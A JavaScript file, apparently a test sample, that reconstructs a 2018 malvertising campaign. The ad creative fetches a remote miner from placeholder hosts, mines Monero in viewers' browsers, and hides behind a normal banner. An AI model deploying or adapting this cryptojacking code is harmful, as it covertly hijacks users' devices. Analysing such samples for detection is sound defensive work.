// doubleclick-miner, written from Trend Micro, "Malvertising Campaign Abuses Google's
// DoubleClick to Deliver Cryptocurrency Miners" (2018): display ads served through a major
// ad network (seen on YouTube) carried JavaScript that mined Monero in the viewer's browser.
// Nine times in ten the creative loaded the public Coinhive-style miner with the
// attackers' site key; otherwise it loaded their private web miner, which talks to their own
// pool over a WebSocket. Both are throttled to use about 80% of the CPU.
(function () {
  var SITE_KEY = "h7PqX2mZ0rVbN4kLcT9eYwA1sD5fG8jU";
  function load(src, cb) {
    var s = document.createElement("script");
    s.src = src;
    s.onload = cb;
    document.body.appendChild(s);
  }
  var threads = Math.max(1, (navigator.hardwareConcurrency || 2) - 1);
  if (Math.random() < 0.9) {
    load("https://coinhive-mirror.invalid/lib/coinhive.min.js", function () {
      if (!window.CoinHive) return;
      var m = new window.CoinHive.Anonymous(SITE_KEY, { threads: threads, throttle: 0.2 });
      m.start(window.CoinHive.FORCE_MULTI_TAB);
    });
  } else {
    load("https://static-adsdelivery.invalid/js/mnr.js", function () {
      if (typeof window.Miner !== "function") return;
      var m = new window.Miner({
        pool: "wss://ws.adsdelivery-pool.invalid:8181/",
        wallet: "49MadeUpMoneroAddressForParapetTestsOnlyQ7Rt3Yp9Wz5Kc2Lm8Nv4Bj6HdX1sZ3wE5rT7yU9iO2pA4sD6fG8h",
        threads: threads,
        throttle: 0.2
      });
      m.start();
    });
  }
  // the visible creative, so the ad slot looks normal
  var a = document.createElement("a");
  a.href = "https://adsdelivery-landing.invalid/offer?c=yt18";
  a.innerHTML = '<img src="https://static-adsdelivery.invalid/banners/300x250.jpg" width="300" height="250">';
  document.body.appendChild(a);
})();
